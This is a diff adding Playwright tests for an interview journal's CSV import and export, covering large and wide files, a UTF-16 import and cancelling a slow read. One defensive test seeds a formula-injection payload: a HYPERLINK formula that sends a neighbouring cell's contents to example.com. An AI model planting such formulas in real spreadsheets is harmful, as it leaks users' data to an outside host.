@@ -240,6 +240,93 @@ test('a file that is not a CSV changes nothing and says why', async ({ page }) =
   expect(await stored(page)).toEqual(JOURNAL.interviews);
 });
 
+test('hostile cells: a formula with a line break downloads marked, and every text comes back as typed', async ({ page }) => {
+  const company = '=HYPERLINK("http://example.com/?"&A2,\n"click")';
+  const hostile = kept([record('h', { company, role: "'=literal", notes: '@SUM(1)\r\n-2', answers: { interviewDate: '2026-03-02' } })]);
+  await seed(page, hostile);
+  await open(page, '/journal/');
+  const [download] = await Promise.all([
+    page.waitForEvent('download'),
+    page.getByRole('button', { name: 'Download the journal as CSV' }).click(),
+  ]);
+  const exported = await readFile((await download.path())!);
+  // As a spreadsheet splits it: no cell starts with a character that would make it a formula.
+  const cells = readCsv(exported.toString('utf8')).rows.flat();
+  for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
+  expect(cells).toContain(`'${company}`);
+
+  await page.evaluate(() => localStorage.clear());
+  await page.reload();
+  await chooseCsv(page, 'journal.csv', exported);
+  await expect(page.getByText('1 interview to add, 0 to update')).toBeVisible();
+  await page.getByRole('button', { name: 'Import' }).click();
+  await expect(page.getByText(/^Imported: 1 interview added/)).toBeFocused();
+  expect(await stored(page)).toMatchObject([{ company, role: "'=literal", notes: '@SUM(1)\r\n-2' }]);
+});
+
+test('a tracker saved as Unicode Text (UTF-16, tab-separated) imports like its CSV', async ({ page }) => {
+  await page.clock.setFixedTime(new Date('2026-04-01T10:00:00'));
+  await page.goto('/journal/');
+  const tabbed = (await readFile(TRACKER, 'utf8'))
+    .split('\n')
+    .map((line) => readCsv(line).headers.join('\t'))
+    .join('\r\n');
+  await chooseCsv(page, 'tracker.txt', Buffer.from(`\uFEFF${tabbed}`, 'utf16le'));
+  const preview = page.getByRole('group', { name: 'Check before importing' });
+  await expect(preview.getByRole('combobox', { name: 'Interview date' })).toHaveValue('3');
+  await expect(preview.getByText('4 interviews to add, 0 to update')).toBeVisible();
+});
+
+test('a sheet of 10,000 rows previews, re-maps a column, reads with a progress line, and reading a huge one can be stopped', async ({
+  page,
+}) => {
+  test.slow();
+  await page.goto('/journal/');
+  const rows = Array.from(
+    { length: 10_000 },
+    (_, i) => `Company ${i % 400},Role ${i % 3},Referral,3/${(i % 28) + 1}/2026,Phone screen,Rejected,,Note ${i}`,
+  );
+  await chooseCsv(
+    page,
+    'big.csv',
+    Buffer.from(['Company,Position,Source,Interview Date,Round,Status,Last Contact,Notes', ...rows].join('\r\n')),
+  );
+  const preview = page.getByRole('group', { name: 'Check before importing' });
+  await expect(preview.getByText('big.csv: 10000 rows under its header.')).toBeVisible();
+  await expect(preview.getByText('1200 interviews to add, 0 to update')).toBeVisible();
+  await expect(preview.getByText(/keeps at most 500/)).toBeVisible();
+  // Role left out: one interview per company, within the limit, and Import is offered.
+  await preview.getByRole('combobox', { name: 'Role' }).selectOption({ label: 'Not in this file' });
+  await expect(preview.getByText('400 interviews to add, 0 to update')).toBeVisible();
+  await expect(preview.getByRole('button', { name: 'Import' })).toBeVisible();
+  await preview.getByRole('button', { name: 'Cancel' }).click();
+
+  // Close to the 5 MB limit, on a slow phone's CPU (20x): long enough to read that the page says how far, and Stop
+  // reading stops it.
+  const note = `"${'a long note, with a comma, '.repeat(9)}"`;
+  const huge = `Company,Role,Notes\r\n${`Acme,Designer,${note}\r\n`.repeat(19_000)}`;
+  expect(huge.length).toBeLessThan(5 * 1024 * 1024);
+  const cdp = await page.context().newCDPSession(page);
+  await cdp.send('Emulation.setCPUThrottlingRate', { rate: 20 });
+  await chooseCsv(page, 'huge.csv', Buffer.from(huge));
+  await expect(page.getByText(/^Reading huge\.csv: \d+%$/)).toBeVisible();
+  await page.getByRole('button', { name: 'Stop reading' }).click();
+  await cdp.send('Emulation.setCPUThrottlingRate', { rate: 1 });
+  await expect(page.getByText('Reading the file was canceled: nothing changed.')).toBeVisible();
+  await expect(page.getByRole('heading', { name: 'Check before importing' })).toHaveCount(0);
+  expect(await stored(page)).toEqual([]);
+});
+
+test('a sheet of 500 columns is refused, naming the limit', async ({ page }) => {
+  await page.goto('/journal/');
+  const wide = Array.from({ length: 500 }, (_, i) => `Column ${i}`).join(',');
+  await chooseCsv(page, 'wide.csv', Buffer.from(`${wide}\r\n${wide}`));
+  await expect(page.getByRole('status').filter({ hasText: 'Nothing was imported' })).toContainText(
+    'A spreadsheet with more than 200 columns is far larger than any journal.',
+  );
+  await expect(page.getByRole('heading', { name: 'Check before importing' })).toHaveCount(0);
+});
+
 test('the activity report prints every activity in its dates, with a line for the name, on A4 and Letter', async ({ page }) => {
   await seed(page, JOURNAL);
   await open(page, '/journal/report/');
